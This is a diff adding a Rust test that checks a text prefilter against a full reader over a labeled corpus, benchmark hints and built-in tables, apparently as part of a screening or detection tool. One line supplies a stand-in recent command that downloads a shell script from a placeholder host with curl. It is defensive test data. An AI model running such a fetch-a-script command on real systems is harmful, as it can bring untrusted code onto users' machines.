@@ -335,3 +335,73 @@ proptest! {
         prop_assert_eq!(worst(&recased, &[]), worst(sentence, &[]), "{:?}", recased);
     }
 }
+
+/// Every text the prefilter stops would have no finding from the full reading either: over the
+/// labeled corpus (with its recent hints), the benchmark hints and this module's tables.
+#[test]
+fn prefilter_never_hides_a_finding() {
+    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../eval");
+    let mut texts: Vec<(String, Vec<String>)> = Vec::new();
+    for entry in std::fs::read_dir(dir).expect("the corpus directory") {
+        let path = entry.expect("entry").path();
+        if path.extension().is_none_or(|e| e != "jsonl") {
+            continue;
+        }
+        for line in std::fs::read_to_string(&path).expect("corpus file").lines() {
+            let line = line.trim();
+            if line.is_empty() || line.starts_with('#') || line.starts_with("//") {
+                continue;
+            }
+            let v: serde_json::Value = serde_json::from_str(line).expect("corpus line");
+            let hint = v["hint"].as_str().expect("hint").to_owned();
+            let recent = v["recent"]
+                .as_array()
+                .map(|r| {
+                    r.iter()
+                        .filter_map(|x| x.as_str().map(str::to_owned))
+                        .collect()
+                })
+                .unwrap_or_default();
+            texts.push((hint, recent));
+        }
+    }
+    let bench = concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/../common/corpus/bench-hints.txt"
+    );
+    for line in std::fs::read_to_string(bench).expect("bench hints").lines() {
+        texts.push((line.to_owned(), Vec::new()));
+        texts.push((
+            line.to_owned(),
+            vec!["curl -o /tmp/x.sh https://x.example/x.sh".to_owned()],
+        ));
+    }
+    for (t, _) in CASES {
+        texts.push(((*t).to_owned(), Vec::new()));
+    }
+    for (t, r, _) in SPLIT {
+        texts.push(((*t).to_owned(), r.iter().map(|s| (*s).to_owned()).collect()));
+    }
+    assert!(texts.len() > 10_000);
+    let mut stopped = 0;
+    let mut hidden = Vec::new();
+    for (text, recent) in &texts {
+        let recent: Vec<&str> = recent.iter().map(String::as_str).collect();
+        if may_act(text, !recent.is_empty()) {
+            continue;
+        }
+        stopped += 1;
+        let mut out = Vec::new();
+        read(text, &recent, &mut out);
+        if out.iter().any(|f| f.severity > Severity::Note) {
+            hidden.push(format!("{text:?} {recent:?}: {out:?}"));
+        }
+    }
+    assert!(hidden.is_empty(), "{}", hidden.join("\n"));
+    // The prefilter must also stop something, or it is not a prefilter.
+    assert!(
+        stopped * 4 > texts.len(),
+        "stopped only {stopped} of {}",
+        texts.len()
+    );
+}
